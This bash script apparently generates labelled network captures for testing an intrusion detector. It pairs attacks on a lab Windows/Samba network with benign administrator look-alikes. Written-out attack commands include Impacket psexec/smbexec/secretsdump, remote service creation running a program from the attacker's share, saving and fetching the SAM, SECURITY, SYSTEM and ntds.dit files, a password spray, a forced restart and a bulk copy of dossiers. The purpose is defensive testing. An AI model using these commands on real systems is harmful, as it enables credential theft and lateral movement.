#!/bin/bash
# Programs run on other hosts with an administrator's password, as Impacket's tools do it, and administrators who do something like it.
# Samba makes no services and has no scheduler and no WMI: what it refuses was asked for all the same.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=services.sh
source "$RECORD_DIR/services.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

ATTACKER=10.20.1.66
ADMIN=10.20.1.30
SERVER=10.20.2.41

# remote_server: one server and two workstations.
remote_server() {
    hospital clients servers
    host server servers $SERVER
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    windows_on server SRV-LAB $SERVER
}

# attack_with TOOL ARGUMENT...: one of Impacket's examples by the attacker, with the right password.
attack_with() {
    impacket "$1"
    shift
    (cd "$WORK" && LIMIT=25 run attacker $PYTHON "$IMPACKET" "$@")
}

LOGIN=WARD/administrator:$LOCAL_PASSWORD@$SERVER

record_lateral_psexec() {
    begin lateral-psexec attack "Impacket's psexec: the shares are listed, a program of random name is written to ADMIN\$ and the service manager is asked for a service that runs it. Samba refuses to make services."
    remote_server
    capture clients
    attack_with psexec "$LOGIN" whoami
    expect "{technique: T1569.002, actor: $ATTACKER, what: service asked for that runs a copied program, target: $SERVER}"
    expect "{technique: T1021.002, actor: $ATTACKER, what: program written to ADMIN\$, target: $SERVER}"
    contains "svcctl.opnum == 15 || svcctl.opnum == 12 || svcctl.opnum == 24" -ge 1
    contains "smb2.cmd == 9 && smb2.flags.response == 0" -ge 1
    finish
}

record_variant_encrypted_psexec() {
    begin variant-encrypted-psexec variant "Impacket's psexec over SMB 3, which both ends encrypt: only the logon of an administrator by NTLM and how much is written can be seen. Nobody can tell it from a file that is copied, so no technique is expected."
    WINDOWS_PROTOCOL=SMB3 remote_server
    capture clients
    attack_with psexec "$LOGIN" whoami
    contains "smb2.header.transform.signature" -ge 20
    contains "svcctl" -eq 0
    finish
}

record_lateral_smbexec() {
    begin lateral-smbexec attack "Impacket's smbexec: a service whose program is a command line for the shell. Samba refuses to make services."
    remote_server
    capture clients
    attack_with smbexec "$LOGIN"
    expect "{technique: T1569.002, actor: $ATTACKER, what: service asked for that is a command line, target: $SERVER}"
    contains "svcctl.opnum == 12 || svcctl.opnum == 24" -ge 1
    finish
}

record_lateral_one_way() {
    begin lateral-one-way attack "Impacket's smbexec where a one-way mirror shows only what the attacker sends: nobody can say what became of it."
    remote_server
    capture clients "src host $ATTACKER"
    attack_with smbexec "$LOGIN"
    expect "{technique: T1569.002, actor: $ATTACKER, what: service asked for that is a command line, target: $SERVER}"
    contains "ip.src == $SERVER" -eq 0
    contains "smb2.cmd == 9 || smb2.cmd == 11" -ge 2
    finish
}

record_lateral_service() {
    begin lateral-service attack "Impacket's services: a service is made remotely to run a program from a share. Samba refuses to make services."
    remote_server
    capture clients
    attack_with services "$LOGIN" create -name wardupd -display "Ward update" -path '\\10.20.1.66\p\upd.exe'
    attack_with services "$LOGIN" start -name wardupd
    expect "{technique: T1569.002, actor: $ATTACKER, what: service asked for, target: $SERVER}"
    contains "svcctl.opnum == 12 || svcctl.opnum == 24" -ge 1
    finish
}

record_benign_services() {
    begin benign-services benign "An administrator lists the services of a server, looks at the state of two, and stops and starts the spooler (net rpc service)."
    remote_server
    programs samba-common-bin
    capture clients
    local verb
    for verb in list "status Spooler" "status RemoteRegistry" "stop Spooler" "start Spooler"; do
        run admin net rpc service $verb -U "administrator%$LOCAL_PASSWORD" -S $SERVER --option='client max protocol=SMB2_10'
    done
    near_miss lateral.remote_service_created lateral.remote_service_changed lateral.remote_service_command
    contains "svcctl" -ge 5
    finish
}

record_lateral_atexec() {
    begin lateral-atexec attack "Impacket's atexec: the pipe of the task scheduler is opened to run a command. Samba has no scheduler and no such pipe."
    remote_server
    capture clients
    attack_with atexec "$LOGIN" whoami
    expect "{technique: T1053, actor: $ATTACKER, what: task scheduler asked for, target: $SERVER}"
    contains 'smb2.filename contains "atsvc"' -ge 1
    finish
}

record_lateral_registry() {
    begin lateral-registry attack "Impacket's reg: a program is entered in the registry of another host to run at every logon. Samba refuses the value."
    remote_server
    capture clients
    attack_with reg "$LOGIN" query -keyName 'HKLM\Software\Microsoft\Windows NT\CurrentVersion'
    attack_with reg "$LOGIN" add -keyName 'HKLM\Software\Microsoft\Windows NT\CurrentVersion' -v wardupd -vt REG_SZ -vd 'C:\Windows\Temp\upd.exe'
    run attacker net rpc registry setvalue 'HKLM\Software\Microsoft\Windows NT\CurrentVersion' wardupd sz 'C:\Windows\Temp\upd.exe' -U "administrator%$LOCAL_PASSWORD" -S $SERVER --option='client max protocol=SMB2_10'
    expect "{technique: T1112, actor: $ATTACKER, what: value written to a remote registry, target: $SERVER}"
    contains "winreg.opnum == 22 || winreg.opnum == 6" -ge 1
    finish
}

record_benign_registry_inventory() {
    begin benign-registry-inventory benign "An inventory program reads versions from the registry of two servers every so often (net rpc registry)."
    remote_server
    host second servers 10.20.2.42
    windows_on second SRV-RIS 10.20.2.42
    programs samba-common-bin
    capture clients
    local i target
    for i in 1 2; do
        for target in $SERVER 10.20.2.42; do
            run admin net rpc registry enumerate 'HKLM\Software\Microsoft\Windows NT\CurrentVersion' -U "administrator%$LOCAL_PASSWORD" -S $target --option='client max protocol=SMB2_10'
            run admin net rpc registry getvalue 'HKLM\Software\Microsoft\Windows NT\CurrentVersion' SystemRoot -U "administrator%$LOCAL_PASSWORD" -S $target --option='client max protocol=SMB2_10'
        done
        sleep 1
    done
    near_miss lateral.registry_changed identity.registry_hive_saved identity.registry_secrets_opened
    contains "winreg" -ge 8
    finish
}

record_lateral_shutdown() {
    begin lateral-shutdown attack "A server is asked to restart at once (net rpc shutdown). Samba has no such pipe and its registry refuses."
    remote_server
    programs samba-common-bin
    capture clients
    run attacker net rpc shutdown -r -f -t 1 -U "administrator%$LOCAL_PASSWORD" -S $SERVER --option='client max protocol=SMB2_10'
    expect "{technique: T1529, actor: $ATTACKER, what: restart asked for, target: $SERVER}"
    contains "winreg.opnum == 24 || initshutdown" -ge 1
    finish
}

record_cred_registry_hives() {
    begin cred-registry-hives attack "A server is told to save its hives SAM, SECURITY and SYSTEM to files, which are then fetched (net rpc registry, smbclient). Samba has only a part of SYSTEM and saves that."
    remote_server
    programs samba-common-bin
    capture clients
    local hive
    for hive in SAM SECURITY SYSTEM; do
        run attacker net rpc registry save "HKLM\\$hive" "Windows\\Temp\\$hive.tmp" -U "administrator%$LOCAL_PASSWORD" -S $SERVER --option='client max protocol=SMB2_10'
    done
    run attacker net rpc registry save "HKLM\\SYSTEM\\CurrentControlSet\\Services" "Windows\\Temp\\r1.tmp" -U "administrator%$LOCAL_PASSWORD" -S $SERVER --option='client max protocol=SMB2_10'
    run attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$SERVER/ADMIN\$" -c "cd Temp; get r1.tmp $WORK/r1.tmp"
    expect "{technique: T1003.002, actor: $ATTACKER, what: registry hives saved, target: $SERVER}"
    contains "winreg.opnum == 20" -ge 1
    finish
}

record_cred_secretsdump() {
    begin cred-secretsdump attack "Impacket's secretsdump on a server that is no domain controller: it looks at the service of the remote registry and reads the boot key there. Samba's registry holds none, so it comes no further."
    remote_server
    capture clients
    attack_with secretsdump "$LOGIN"
    expect "{technique: T1003, actor: $ATTACKER, what: secrets asked for by remote registry, target: $SERVER}"
    contains "svcctl || winreg" -ge 4
    finish
}

record_cred_hive_files() {
    begin cred-hive-files attack "Copies of the directory's database and of the registry are fetched from drive C of a server (smbclient)."
    remote_server
    mkdir -p "$WORK/smb-server/c/Windows/NTDS" "$WORK/smb-server/c/Windows/System32/config"
    make_bytes "$WORK/smb-server/c/Windows/NTDS/ntds.dit" 24000
    make_bytes "$WORK/smb-server/c/Windows/System32/config/SYSTEM" 12000
    capture clients
    run attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$SERVER/C\$" -c "cd Windows; ls; cd NTDS; get ntds.dit $WORK/n; cd ..; cd System32/config; get SYSTEM $WORK/s"
    expect "{technique: T1003.003, actor: $ATTACKER, what: database of the directory fetched, target: $SERVER}"
    contains 'smb2.filename contains "ntds.dit"' -ge 1
    finish
}

record_benign_admin_share() {
    begin benign-admin-share benign "An administrator fetches two logs from drive C of a server and puts a setting file there."
    remote_server
    seq -f 'line %g of the log' 1 200 | tee "$WORK/smb-server/c/Windows/Temp/ward.log" >"$WORK/smb-server/c/Windows/WindowsUpdate.log"
    echo 'planner=2' >"$WORK/ward.ini"
    capture clients
    run admin smbclient -U "administrator%$LOCAL_PASSWORD" "//$SERVER/C\$" -c "cd Windows; get WindowsUpdate.log $WORK/a; cd Temp; get ward.log $WORK/b; put $WORK/ward.ini ward.ini"
    near_miss lateral.program_to_admin_share identity.directory_database_copied lateral.admin_shares_many lateral.drive_searched
    contains "smb2.cmd == 9 && smb2.flags.response == 0" -ge 1
    finish
}

# ward_servers COUNT: that many servers with drive C shared; the password of the last ones is another.
ward_servers() {
    local i password=$LOCAL_PASSWORD
    hospital clients servers
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    for ((i = 1; i <= $1; i++)); do
        host srv$i servers 10.20.2.$((40 + i))
        LOCAL_PASSWORD=$password
        [[ $i -le ${2:-$1} ]] || LOCAL_PASSWORD=Other-Admin-8
        windows_on srv$i SRV-$i 10.20.2.$((40 + i))
    done
    LOCAL_PASSWORD=$password
}

record_lateral_admin_shares() {
    begin lateral-admin-shares attack "One local administrator's password is tried on drive C of six servers, one after another; it is right on two, refused on four."
    ward_servers 6 2
    capture clients
    local i
    for i in 1 2 3 4 5 6; do
        run attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//10.20.2.$((40 + i))/C\$" -c ls
    done
    expect "{technique: T1021.002, actor: $ATTACKER, what: drive C of many servers}"
    contains "smb2.cmd == 3 && smb2.flags.response == 0" -ge 2
    contains "smb2.nt_status == 0xc000006d" -ge 4
    finish
}

record_lateral_admin_shares_refused() {
    begin lateral-admin-shares-refused attack "An ordinary user tries ADMIN\$ and drive C of five servers and is refused everywhere (smbclient)."
    ward_servers 5
    capture clients
    local i
    for i in 1 2 3 4 5; do
        run attacker smbclient -U "nobody%$LOCAL_PASSWORD" "//10.20.2.$((40 + i))/ADMIN\$" -c ls
        run attacker smbclient -U "nobody%$LOCAL_PASSWORD" "//10.20.2.$((40 + i))/C\$" -c ls
    done
    expect "{technique: T1021.002, actor: $ATTACKER, what: administrators' shares of many servers tried in vain}"
    contains "smb2.cmd == 3 && smb2.nt_status == 0xc0000022" -ge 10
    finish
}

record_disc_netview() {
    begin disc-netview attack "Impacket's netview asks six servers for their sessions, and stops where it is refused; shares and users would come next."
    ward_servers 6
    seq -f '10.20.2.%g' 41 46 >"$WORK/targets"
    capture clients
    attack_with netview -targets "$WORK/targets" -noloop "WARD/nobody:$LOCAL_PASSWORD"
    expect "{technique: T1049, actor: $ATTACKER, what: sessions of servers asked for}"
    contains "srvsvc.opnum == 12 || srvsvc.opnum == 15" -ge 4
    finish
}

record_disc_smbmap() {
    begin disc-smbmap attack "smbmap lists the shares of six servers and tries what may be written there."
    programs smbmap
    ward_servers 6
    seq -f '10.20.2.%g' 41 46 >"$WORK/targets"
    capture clients
    run attacker smbmap --host-file "$WORK/targets" -u nobody -p "$LOCAL_PASSWORD"
    expect "{technique: T1135, actor: $ATTACKER, what: shares of many servers}"
    contains "srvsvc.opnum == 15" -ge 6
    finish
}

record_benign_share_list() {
    begin benign-share-list benign "Two people look at what a file server shares and open one share (smbclient)."
    remote_server
    echo x >"$WORK/smb-server/share/planning.txt"
    capture clients
    run admin smbclient -U "nobody%$LOCAL_PASSWORD" -L $SERVER --option='client ipc max protocol=SMB2_10'
    run admin smbclient -U "nobody%$LOCAL_PASSWORD" "//$SERVER/ward" -c "ls; get planning.txt $WORK/p"
    run attacker smbclient -U "nobody%$LOCAL_PASSWORD" -L $SERVER --option='client ipc max protocol=SMB2_10'
    near_miss lateral.shares_listed_on_many_hosts
    contains "srvsvc.opnum == 15" -ge 2
    finish
}

record_disc_nmap_smb() {
    begin disc-nmap-smb attack "nmap asks a server that still speaks SMB 1 for users, shares, sessions, groups and the password policy (smb-enum scripts) with a user's password."
    programs nmap
    WINDOWS_OLDEST=NT1 remote_server
    capture clients
    LIMIT=90 run attacker nmap -n -Pn -p 445 --script smb-enum-users,smb-enum-shares,smb-enum-sessions,smb-enum-groups,smb-enum-domains,smb-os-discovery \
        --script-args "smbusername=nobody,smbpassword=$LOCAL_PASSWORD,smbdomain=WARD" $SERVER
    expect "{technique: T1087, actor: $ATTACKER, what: users and groups asked for, target: $SERVER}"
    expect "{technique: T1135, actor: $ATTACKER, what: shares asked for, target: $SERVER}"
    contains "samr" -ge 4
    contains "srvsvc" -ge 4
    finish
}

record_collection_drive_copy() {
    begin collection-drive-copy attack "A workstation copies the dossiers from drive C of a server, 205 files of ten folders, in one go (smbclient, recursively)."
    remote_server
    local i
    for i in {1..205}; do
        mkdir -p "$WORK/smb-server/c/dossiers/$((i % 10))"
        make_bytes "$WORK/smb-server/c/dossiers/$((i % 10))/report$i.doc" 90
    done
    mkdir "$WORK/loot"
    capture clients
    run attacker smbclient -U "administrator%$LOCAL_PASSWORD" "//$SERVER/C\$" -c "prompt; recurse; cd dossiers; lcd $WORK/loot; mget *"
    expect "{technique: T1039, actor: $ATTACKER, what: dossiers of a whole drive copied, target: $SERVER}"
    contains "smb2.cmd == 8 && smb2.flags.response == 0" -ge 200
    finish
}

record_benign_share_copy() {
    begin benign-share-copy benign "Somebody takes a project of 40 files along from a share (smbclient, recursively)."
    remote_server
    local i
    for i in {1..40}; do
        mkdir -p "$WORK/smb-server/share/project$((i % 4))"
        make_bytes "$WORK/smb-server/share/project$((i % 4))/report$i.doc" 200
    done
    mkdir "$WORK/copy"
    capture clients
    run admin smbclient -U "nobody%$LOCAL_PASSWORD" "//$SERVER/ward" -c "prompt; recurse; lcd $WORK/copy; mget *"
    near_miss lateral.drive_searched
    contains "smb2.cmd == 8 && smb2.flags.response == 0" -ge 40
    finish
}

main "$@"
